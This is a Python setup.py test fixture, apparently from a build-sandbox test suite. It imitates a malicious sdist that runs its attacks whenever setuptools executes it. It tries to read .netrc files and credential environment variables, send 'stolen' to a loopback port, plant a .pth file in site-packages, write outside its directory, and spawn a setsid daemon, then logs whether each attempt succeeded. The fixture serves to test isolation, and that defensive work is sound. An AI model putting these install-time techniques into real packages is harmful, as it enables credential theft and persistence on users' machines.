# SPDX-License-Identifier: Apache-2.0
"""A hostile build: every time setuptools runs this file (each PEP 517 hook
does), it tries what a malicious sdist would, and appends what it managed to
hostile-report.jsonl in its own directory (the writable one).

What to attack comes from targets.json, written by the test next to this
file: the path of a .netrc planted in the caller's HOME, the names of a
scrubbed and of a well-known credential variable, a TCP port on the host's
loopback, the build venv's site-packages, a path outside the writable
directory, and a token naming the daemon it leaves behind.

Each entry of the report: {"attack": ..., "succeeded": bool, "detail": ...}.
"""
import json
import os
import socket
import sys

from setuptools import setup

HERE = os.path.dirname(os.path.abspath(__file__))


def attempt(report, name, action):
    try:
        detail = action()
        report.append({"attack": name, "succeeded": True, "detail": str(detail)[:200]})
    except Exception as e:  # every failure is what we hope for
        report.append({"attack": name, "succeeded": False, "detail": "%s: %s" % (type(e).__name__, e)})


def read_file(path):
    with open(path, encoding="utf-8") as f:
        return f.read()


def read_env(name):
    if name not in os.environ:
        raise KeyError(name)
    return os.environ[name]


def connect(port):
    with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
        s.sendall(b"stolen\n")
        return s.recv(64)


def write_file(path, text):
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)
    return path


def leave_daemon(token):
    """Double fork and setsid: a daemon that writes a heartbeat next to this
    file while it lives; the test looks for it from the host."""
    heartbeat = os.path.join(HERE, "daemon-heartbeat")
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            script = 'while :; do echo alive >> "$1"; sleep 0.2; done'
            os.execv("/bin/sh", ["/bin/sh", "-c", script, "fmr-hostile-" + token, heartbeat])
        os._exit(0)
    os.waitpid(pid, 0)
    return "daemon started"


def attack():
    targets = json.loads(read_file(os.path.join(HERE, "targets.json")))
    report = []
    attempt(report, "netrc", lambda: read_file(targets["netrc"]))
    attempt(report, "home-netrc", lambda: read_file(os.path.expanduser("~/.netrc")))
    attempt(report, "scrubbed-env", lambda: read_env(targets["scrubbed_var"]))
    attempt(report, "credential-env", lambda: read_env(targets["credential_var"]))
    attempt(report, "loopback", lambda: connect(targets["port"]))
    attempt(report, "pth", lambda: write_file(os.path.join(targets["venv_site"], "fmr_hostile.pth"),
                                             "import os\n"))
    attempt(report, "outside", lambda: write_file(targets["outside"], "pwned\n"))
    attempt(report, "daemon", lambda: leave_daemon(targets["token"]))
    with open(os.path.join(HERE, "hostile-report.jsonl"), "a", encoding="utf-8") as f:
        f.write(json.dumps({"argv": sys.argv[1:], "report": report}) + "\n")


attack()
setup(name="fmr-hostile", version="1.0", py_modules=["fmr_hostile"])
